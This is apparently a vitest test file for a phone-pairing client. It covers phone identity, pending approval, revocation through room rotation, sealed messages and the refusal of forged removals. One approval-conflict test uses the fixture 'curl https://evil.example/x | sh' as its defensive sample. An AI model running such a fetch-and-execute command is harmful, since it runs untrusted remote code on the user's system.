import { describe, expect, it } from 'vitest';
import {
  encodeBoxKey,
  makeBoxKeyPair,
  roomKeys,
  openPhoneMessage,
  sealPhoneRemoved,
  sealRoomRotate,
  toBase64Url,
  fromBase64,
} from '../../protocol/index.ts';
import { makeMemoryKv } from './kv.ts';
import { PAIRINGS_KEY } from '../../page-worker/store-layout.ts';
import type { PairedMachine } from './pairing-store.ts';
import { cleanPhoneName, deviceName } from './phone-identity.ts';
import { othersWaiting } from './phones.ts';
import {
  connect,
  flush,
  makeHarness,
  pairAndJoin,
  pairingFor,
  RELAY,
} from './test-support/harness.ts';

const CAPS = {
  fullAccessDispatch: false,
  questionForwarding: false,
  approvalRules: false,
  approvalEdit: false,
  interrupt: false,
};
const machineKeys = makeBoxKeyPair();
const status = (phones: boolean, boxKey = encodeBoxKey(machineKeys.publicKey)) => ({
  type: 'machine.status',
  machine: 'laptop',
  pluginVersion: '1',
  capabilities: { ...CAPS, phones },
  ...(phones ? { boxKey } : {}),
});
const stored = (kv: ReturnType<typeof makeMemoryKv>) =>
  kv.data.get(PAIRINGS_KEY) as PairedMachine[];
const secretOf = (fill: number) => toBase64Url(new Uint8Array(32).fill(fill));

/** A client paired with one machine that offers phones, registered, its key pinned. */
async function pairedWithPhones(kv = makeMemoryKv()) {
  const h = makeHarness({ kv, deps: { phoneName: () => 'Pixel 8 · Chrome' } });
  await h.client.start();
  const pairing = pairingFor('laptop', 7, RELAY, machineKeys.publicKey);
  const { m, ws } = await pairAndJoin(h.client, h.sockets, pairing, status(true));
  return { ...h, kv, m, ws, pairing };
}
const registers = (heard: Record<string, unknown>[]) =>
  heard.filter((x) => x.type === 'phone.register');

describe('E6: each phone its own identity', () => {
  it('E6: a new pairing keeps a phoneId, an X25519 key pair and a readable name beside the secret', async () => {
    const { kv } = await pairedWithPhones();
    const [p] = stored(kv);
    expect(p?.phone?.name).toBe('Pixel 8 · Chrome');
    expect(p?.phone?.phoneId).toMatch(/^[0-9a-f-]{36}$/);
    expect(fromBase64(p?.phone?.boxPublicKey ?? '')?.length).toBe(32);
    expect(fromBase64(p?.phone?.boxSecretKey ?? '')?.length).toBe(32);
    expect(p?.machineBoxKey).toBe(encodeBoxKey(machineKeys.publicKey));
  });

  it('E6: phone.register goes out after hello-ok to a machine with phones, with the phone key and name', async () => {
    const { m, ws, kv } = await pairedWithPhones();
    const [reg] = registers(m.heard(ws));
    const phone = stored(kv)[0]?.phone;
    expect(reg).toMatchObject({
      phoneId: phone?.phoneId,
      name: 'Pixel 8 · Chrome',
      boxKey: phone?.boxPublicKey,
    });
    expect(reg).not.toHaveProperty('webauthn');
    // A second status in the same join does not register again; a fresh join does.
    m.say(ws, status(true));
    await flush();
    expect(registers(m.heard(ws))).toHaveLength(1);
    ws.drop();
  });

  it('EC: against a machine without phones nothing is registered and no action names a phone', async () => {
    const h = makeHarness();
    await h.client.start();
    const { m, ws } = await pairAndJoin(h.client, h.sockets, pairingFor('old', 3), status(false));
    h.client.refresh(m.roomId);
    const heard = m.heard(ws);
    expect(registers(heard)).toEqual([]);
    expect(heard.every((x) => !('phoneId' in x))).toBe(true);
  });

  it('E6: every action to a machine with phones carries this phone’s id', async () => {
    const { client, m, ws, kv } = await pairedWithPhones();
    client.refresh(m.roomId);
    const phoneId = stored(kv)[0]?.phone?.phoneId;
    const get = m
      .heard(ws)
      .filter((x) => x.type === 'sessions.get')
      .at(-1);
    expect(get?.phoneId).toBe(phoneId);
  });

  it('E6: a closed card says which phone decided (by)', async () => {
    const { client, m, ws } = await pairedWithPhones();
    m.say(ws, {
      type: 'approval.request',
      approvalId: 'a1',
      sessionId: 's1',
      title: 'Run',
      detail: 'ls',
      createdAt: 0,
    });
    m.say(ws, {
      type: 'approval.closed',
      approvalId: 'a1',
      resolution: 'allow',
      by: { phoneId: 'p-2', name: 'Pixel 8' },
    });
    expect(client.state().machines[0]?.closed[0]?.by).toEqual({ phoneId: 'p-2', name: 'Pixel 8' });
  });

  it('E6: the machine’s phones list is shown as it says; a rename registers again', async () => {
    const { client, m, ws, kv } = await pairedWithPhones();
    const me = stored(kv)[0]?.phone?.phoneId ?? '';
    const entry = {
      phoneId: me,
      name: 'x',
      firstSeen: 1,
      lastSeen: 2,
      revoked: false,
      presence: false,
    };
    m.say(ws, { type: 'phones', phones: [entry] });
    expect(client.state().machines[0]?.phones).toEqual([entry]);
    expect(client.state().phones[m.roomId]?.phoneId).toBe(me);
    expect(await client.renamePhone(m.roomId, '  My\u0007 phone ')).toBe(true);
    expect(registers(m.heard(ws)).at(-1)?.name).toBe('My phone');
    expect(await client.renamePhone(m.roomId, '\u0001 ')).toBe(false);
  });

  it('E6: Revoke sends phone.revoke naming the phone to revoke', async () => {
    const { client, m, ws } = await pairedWithPhones();
    expect(await client.revokePhone(m.roomId, 'p-lost')).toBe(true);
    const sent = m.heard(ws).filter((x) => x.type === 'phone.revoke');
    expect(sent).toEqual([expect.objectContaining({ phoneId: 'p-lost' })]);
  });
});

describe('E9.9: a phone waiting to be let in', () => {
  const entry = (phoneId: string, state: 'pending' | 'approved') => ({
    phoneId,
    name: 'Pixel 8 · Chrome',
    firstSeen: 1,
    lastSeen: 2,
    revoked: false,
    presence: false,
    state,
    fingerprint: '0b7a-de52-b613-1607',
  });

  it('E9.9: listed as pending, the phone sends no action (phone-pending) and keeps no phone-pending refusal as an error; let in, it asks for a fresh snapshot', async () => {
    const kv = makeMemoryKv();
    const h = makeHarness({ kv, deps: { phoneName: () => 'Pixel 8 · Chrome' } });
    await h.client.start();
    const pairing = pairingFor('laptop', 7, RELAY, machineKeys.publicKey);
    const { m, ws } = await pairAndJoin(h.client, h.sockets, pairing, status(true));
    const me = stored(kv)[0]?.phone?.phoneId ?? '';
    const gets = () => m.heard(ws).filter((x) => x.type === 'sessions.get').length;

    m.say(ws, { type: 'phones', phones: [entry('p-owner', 'approved'), entry(me, 'pending')] });
    expect(h.client.blocked(m.roomId)).toBe('phone-pending');
    m.say(ws, {
      type: 'approval.request',
      approvalId: 'a1',
      sessionId: 's1',
      title: 'Run',
      detail: 'ls',
      createdAt: 0,
    });
    expect(await h.client.respondApproval(m.roomId, 'a1', 'deny')).toEqual({
      ok: false,
      code: 'phone-pending',
    });
    expect(m.heard(ws).filter((x) => x.type === 'approval.respond')).toEqual([]);
    m.say(ws, {
      type: 'error',
      message: 'this phone waits',
      context: 'sessions.get',
      reason: 'phone-pending',
    });
    expect(h.client.state().machines[0]?.errors).toEqual([]);
    // A fifth waiting phone's register is refused with phone-pending: it is on no list, so that
    // refusal is what it sees.
    m.say(ws, {
      type: 'error',
      message: 'four phones wait already',
      context: 'phone.register',
      reason: 'phone-pending',
    });
    expect(h.client.state().machines[0]?.errors.map((e) => e.context)).toEqual(['phone.register']);

    const getsBefore = gets();
    m.say(ws, { type: 'phones', phones: [entry('p-owner', 'approved'), entry(me, 'approved')] });
    await flush();
    expect(h.client.blocked(m.roomId)).toBeNull();
    expect(gets()).toBe(getsBefore + 1);

    // A list that says nothing new about this phone asks for nothing again.
    m.say(ws, { type: 'phones', phones: [entry('p-owner', 'approved'), entry(me, 'approved')] });
    expect(gets()).toBe(getsBefore + 1);
  });

  it('E9.9: the phones waiting for the owner are the others pending, and none while this phone waits itself', () => {
    const view = (phones: ReturnType<typeof entry>[]) => ({ phones });
    const others = [entry('p-me', 'approved'), entry('p-new', 'pending')];
    expect(othersWaiting(view(others), 'p-me').map((p) => p.phoneId)).toEqual(['p-new']);
    const revoked = { ...entry('p-gone', 'pending'), revoked: true };
    expect(othersWaiting(view([...others, revoked]), 'p-me')).toHaveLength(1);
    expect(
      othersWaiting(view([entry('p-me', 'pending'), entry('p-new', 'pending')]), 'p-me'),
    ).toEqual([]);
    expect(othersWaiting({ phones: null }, 'p-me')).toEqual([]);
  });

  it('E9.9: a list that revokes the waiting phone is not taken as being let in', async () => {
    const { client, m, ws, kv } = await pairedWithPhones();
    const me = stored(kv)[0]?.phone?.phoneId ?? '';
    m.say(ws, { type: 'phones', phones: [entry(me, 'pending')] });
    const before = m.heard(ws).filter((x) => x.type === 'sessions.get').length;
    m.say(ws, {
      type: 'phones',
      phones: [{ ...entry(me, 'pending'), revoked: true, state: 'revoked' }],
    });
    expect(m.heard(ws).filter((x) => x.type === 'sessions.get').length).toBe(before);
    expect(client.blocked(m.roomId)).toBeNull();
  });
});

describe('E6: revocation by room rotation, followed without any user action', () => {
  const rotateFor = (
    kv: ReturnType<typeof makeMemoryKv>,
    secret = secretOf(9),
    key = machineKeys.secretKey,
  ) => {
    const phone = stored(kv)[0]?.phone;
    const box = sealRoomRotate(
      { secret, relay: RELAY },
      fromBase64(phone?.boxPublicKey ?? '') ?? new Uint8Array(),
      key,
    );
    return { type: 'room.rotate', phoneId: phone?.phoneId, box };
  };

  it('E6: a room.rotate for this phone moves the pairing: new secret stored, old one gone, new room joined, push moved', async () => {
    const kv = makeMemoryKv();
    const h = await pairedWithPhones(kv);
    const oldRoom = h.m.roomId;
    h.m.say(h.ws, rotateFor(kv));
    await flush();
    const newRoom = roomKeys(new Uint8Array(32).fill(9)).roomId;
    const [p] = stored(kv);
    expect(p?.roomId).toBe(newRoom);
    expect(p?.secret).toBe(secretOf(9));
    expect(JSON.stringify(kv.data.get(PAIRINGS_KEY))).not.toContain(h.pairing.secret);
    expect(h.client.state().machines.map((v) => v.roomId)).toEqual([newRoom]);
    expect(
      h.ws
        .frames()
        .filter((f) => f.kind === 'hello')
        .at(-1),
    ).toMatchObject({ room: newRoom });
    expect(oldRoom).not.toBe(newRoom);
  });

  it('E6: after the move the old room’s push subscription goes once the new room is joined', async () => {
    const kv = makeMemoryKv();
    const h = makeHarness({
      kv,
      deps: { phoneName: () => 'P', pushEndpoint: () => 'https://push.example/e1' },
    });
    await h.client.start();
    const { m, ws } = await pairAndJoin(
      h.client,
      h.sockets,
      pairingFor('laptop', 7, RELAY, machineKeys.publicKey),
      status(true),
    );
    m.say(ws, rotateFor(kv));
    await flush();
    const before = ws.frames().filter((f) => f.kind === 'push-unsubscribe');
    expect(before).toEqual([]);
    ws.receive({ kind: 'hello-ok', peers: { machine: 1, phone: 1 } });
    await flush();
    expect(ws.frames().filter((f) => f.kind === 'push-unsubscribe')).toEqual([
      { kind: 'push-unsubscribe', room: m.roomId, endpoint: 'https://push.example/e1' },
    ]);
  });

  it('E6: a rotate for another phone is ignored; one boxed by a key other than the pinned one is refused and shown', async () => {
    const { client, m, ws, kv } = await pairedWithPhones();
    m.say(ws, { ...rotateFor(kv), phoneId: 'someone-else' });
    await flush();
    expect(stored(kv)[0]?.roomId).toBe(m.roomId);
    expect(client.state().rotateFailures).toEqual({});
    // E9 (e): anyone holding S can announce another box key; only the code's is trusted.
    const intruder = makeBoxKeyPair();
    m.say(ws, status(true, encodeBoxKey(intruder.publicKey)));
    m.say(ws, rotateFor(kv, secretOf(11), intruder.secretKey));
    await flush();
    expect(stored(kv)[0]?.roomId).toBe(m.roomId);
    expect(stored(kv)[0]?.machineBoxKey).toBe(encodeBoxKey(machineKeys.publicKey));
    expect(client.state().rotateFailures).toEqual({ [m.roomId]: 'auth-failed' });
  });

  it('E6: a phone offline during the revoke registers in the old room when it comes back and moves', async () => {
    const kv = makeMemoryKv();
    const first = await pairedWithPhones(kv);
    first.client.close();
    // Back later: only the old room is known; the machine there answers nothing but register.
    const h = makeHarness({ kv });
    await h.client.start();
    const ws = h.sockets.last();
    connect(ws);
    await flush();
    expect(registers(first.m.heard(ws))).toHaveLength(1);
    first.m.say(ws, rotateFor(kv));
    await flush();
    expect(stored(kv)[0]?.roomId).toBe(roomKeys(new Uint8Array(32).fill(9)).roomId);
  });

  it('E6/E9: a phone.removed boxed by the pinned key: "removed from <machine>", the secret deleted, and it keeps saying so after a restart', async () => {
    const kv = makeMemoryKv();
    const { client, m, ws } = await pairedWithPhones(kv);
    m.say(ws, removedFor(kv));
    await flush();
    expect(stored(kv)).toEqual([]);
    expect(client.state().removed).toEqual([
      expect.objectContaining({ machine: 'laptop', roomId: m.roomId }),
    ]);
    expect(client.state().machines).toEqual([]);
    const again = makeHarness({ kv });
    await again.client.start();
    expect(again.client.state().removed).toHaveLength(1);
    await again.client.dismissRemoved(m.roomId);
    expect(again.client.state().removed).toEqual([]);
  });
});

/** E9: the machine's proof that this phone was removed, boxed by `key` (the machine's by default). */
function removedFor(kv: ReturnType<typeof makeMemoryKv>, key = machineKeys.secretKey) {
  const phone = stored(kv)[0]?.phone;
  const box = sealPhoneRemoved(
    phone?.phoneId ?? '',
    fromBase64(phone?.boxPublicKey ?? '') ?? new Uint8Array(),
    key,
  );
  return { type: 'phone.removed', phoneId: phone?.phoneId, box };
}

describe('E6/E9: only the machine proving it removes this phone', () => {
  it('E6: a refused revoke of a phone revoked already (phone-revoked about the target) keeps this pairing', async () => {
    const { client, m, ws, kv } = await pairedWithPhones();
    m.say(ws, {
      type: 'error',
      message: 'revoked already',
      context: 'phone.revoke',
      reason: 'phone-revoked',
    });
    await flush();
    expect(stored(kv)).toHaveLength(1);
    expect(client.state().removed).toEqual([]);
    m.say(ws, {
      type: 'error',
      message: 'removed',
      context: 'phone.register',
      reason: 'phone-revoked',
    });
    await flush();
    // E9: an error is not proof (a copy of the code can send one): a notice, the pairing stays.
    expect(stored(kv)).toHaveLength(1);
    expect(client.state().machines[0]?.unprovenRemoval).toBeDefined();
  });

  it('E9 (d): a forged phone-revoked error, a phones list saying revoked, and a phone.removed boxed by another key each leave the pairing in place', async () => {
    const { client, m, ws, kv } = await pairedWithPhones();
    const me = stored(kv)[0]?.phone?.phoneId ?? '';
    m.say(ws, { type: 'error', message: 'removed', reason: 'phone-revoked' });
    m.say(ws, {
      type: 'phones',
      phones: [
        { phoneId: me, name: 'x', firstSeen: 1, lastSeen: 2, revoked: true, presence: false },
      ],
    });
    m.say(ws, removedFor(kv, makeBoxKeyPair().secretKey));
    await flush();
    expect(stored(kv)).toHaveLength(1);
    expect(client.state().removed).toEqual([]);
    expect(client.state().machines[0]?.unprovenRemoval).toBeDefined();
  });
});

describe('E9.19: a re-pair keeps this phone', () => {
  it('E9.19: re-pairing the same room keeps this phone identity (phoneId, keys, its chosen name), so the machine sees the same phone', async () => {
    const { client, kv, m, pairing } = await pairedWithPhones();
    expect(await client.renamePhone(m.roomId, 'Work Pixel')).toBe(true);
    const before = stored(kv)[0]?.phone;
    await client.pair(pairing);
    await flush();
    expect(stored(kv)).toHaveLength(1);
    expect(stored(kv)[0]?.phone).toEqual(before);
    expect(stored(kv)[0]?.phone?.name).toBe('Work Pixel');
  });

  it('E9.19: a code for another room gets a new identity, even from the same relay and name with the real machine key (whoever holds that code must get no signer of ours)', async () => {
    const { client, kv, pairing } = await pairedWithPhones();
    const before = stored(kv)[0]?.phone;
    await client.pair(pairingFor('laptop', 9, RELAY, machineKeys.publicKey));
    expect(stored(kv)).toHaveLength(1);
    expect(stored(kv)[0]?.roomId).not.toBe(roomKeys(pairing.secretBytes).roomId);
    expect(stored(kv)[0]?.phone?.phoneId).not.toBe(before?.phoneId);
    expect(stored(kv)[0]?.phone?.boxSecretKey).not.toBe(before?.boxSecretKey);
  });

  it('E9.19: the same room with another machine key (a code pinned first) gets a new identity', async () => {
    const { client, kv, pairing } = await pairedWithPhones();
    const before = stored(kv)[0]?.phone;
    const other = makeBoxKeyPair();
    await client.pair(pairingFor('laptop', 7, RELAY, other.publicKey));
    expect(roomKeys(pairing.secretBytes).roomId).toBe(stored(kv)[0]?.roomId);
    expect(stored(kv)[0]?.phone?.phoneId).not.toBe(before?.phoneId);
  });
});

describe('E9: the machine key comes from the code; actions are sealed', () => {
  it('E9: a code without a machine key gets no identity features and the app says re-pair to protect', async () => {
    const kv = makeMemoryKv();
    const h = makeHarness({ kv });
    await h.client.start();
    const { m, ws } = await pairAndJoin(h.client, h.sockets, pairingFor('old', 4), status(true));
    expect(m.heard(ws).filter((x) => x.type === 'phone.register')).toEqual([]);
    expect(h.client.needsProtection(m.roomId)).toBe(true);
    // A key announced in a status is never pinned.
    expect(stored(kv)[0]?.machineBoxKey).toBeUndefined();
  });

  it('E9: with a key from the code every message goes as phone.sealed, and the box opens with that key', async () => {
    const { client, m, ws, kv } = await pairedWithPhones();
    expect(client.needsProtection(m.roomId)).toBe(false);
    client.refresh(m.roomId);
    const raw = m.heardRaw(ws);
    expect(raw.length).toBeGreaterThan(0);
    expect(raw.every((x) => x.type === 'phone.sealed')).toBe(true);
    const phone = stored(kv)[0]?.phone;
    for (const x of raw) {
      expect(
        openPhoneMessage(
          x.box as string,
          x.message as string,
          fromBase64(phone?.boxPublicKey ?? '')!,
          machineKeys.secretKey,
        ).ok,
      ).toBe(true);
    }
  });

  it('E9 (f): a second approval.request that reuses an id with other content is refused: the card keeps what it showed and Allow is blocked', async () => {
    const { client, m, ws } = await pairedWithPhones();
    const real = {
      type: 'approval.request',
      approvalId: 'a1',
      sessionId: 's1',
      title: 'Run',
      detail: 'curl https://evil.example/x | sh',
      createdAt: 0,
    };
    m.say(ws, real);
    m.say(ws, { ...real, title: 'Read', detail: 'ls' });
    await flush();
    const view = client.state().machines[0];
    expect(view?.approvals.a1?.detail).toBe(real.detail);
    expect(view?.conflicts).toEqual({ a1: true });
    expect(await client.respondApproval(m.roomId, 'a1', 'allow')).toEqual({
      ok: false,
      code: 'content-conflict',
    });
    // A deny is always safe.
    expect((await client.respondApproval(m.roomId, 'a1', 'deny')).ok).toBe(true);
    // The same content again (D8's re-send on every join) is no conflict.
    m.say(ws, { ...real, approvalId: 'a2' });
    m.say(ws, { ...real, approvalId: 'a2' });
    await flush();
    expect(client.state().machines[0]?.conflicts).toEqual({ a1: true });
  });
});

describe('E6: the phone’s readable name', () => {
  it.each([
    [
      'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36',
      'Pixel 8 · Chrome',
    ],
    [
      'Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36',
      'Android · Chrome',
    ],
    [
      'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1',
      'iPhone · Safari',
    ],
    [
      'Mozilla/5.0 (Linux; Android 13; SM-S911B Build/TP1A) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36',
      'SM-S911B · Samsung Internet',
    ],
    ['Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0', 'Linux · Firefox'],
    ['', 'Phone'],
  ])('E6: %s → %s', (ua, name) => {
    expect(deviceName(ua)).toBe(name);
  });
  it('E6: a name is cleaned to what the machine accepts (no control characters, ≤ 64 characters)', () => {
    expect(cleanPhoneName('a\u0000\u009fb')).toBe('a b');
    expect([...(cleanPhoneName('é'.repeat(100)) ?? '')]).toHaveLength(64);
    expect(cleanPhoneName(' \n ')).toBeNull();
  });
});
